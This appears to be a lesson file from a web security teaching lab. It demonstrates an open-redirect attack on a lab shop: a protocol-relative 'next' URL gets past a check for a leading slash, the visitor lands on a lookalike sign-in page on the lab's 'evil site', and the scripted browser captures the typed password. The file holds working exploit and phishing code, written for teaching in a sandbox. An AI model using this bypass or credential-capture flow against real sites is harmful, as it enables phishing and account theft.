"""A thief sends a mail with a link to the shop. The link leads to his own site, which looks like the shop.

The app redirects to the target in the link's argument "next". It checks that the target begins with a slash.
"""

from __future__ import annotations

from urllib.parse import urlsplit

from tools.lessons.lab import HOST, Lab

PAGE = """<!doctype html><title>Shop</title><h1>Shop: please sign in again</h1>
<form method="post"><p>Password <input name="password" type="password"></p><button>Sign in</button></form>"""


def attack(lab: Lab) -> str:
    """Return what was stolen; "" for nothing."""
    with lab.serve() as shop, lab.evil_site() as evil, lab.browser() as page:
        target = evil.page(PAGE).removeprefix("https:")
        link = f"{shop.url}/redirect?next={target}"
        print(f"The link in the mail: {link}")
        print(f"It begins with {shop.url}, so the visitor trusts it, and clicks.")
        page.goto(link)
        print(f"The browser is now at {page.url}")
        if urlsplit(page.url).hostname == HOST:
            return ""
        page.fill("[name=password]", "my dog is called Rex")
        lab.photograph(page)
        with page.expect_request(lambda request: request.method == "POST") as sent:
            page.click("button")
        return f"The visitor has typed a password into the thief's page, which has sent: {sent.value.post_data}"
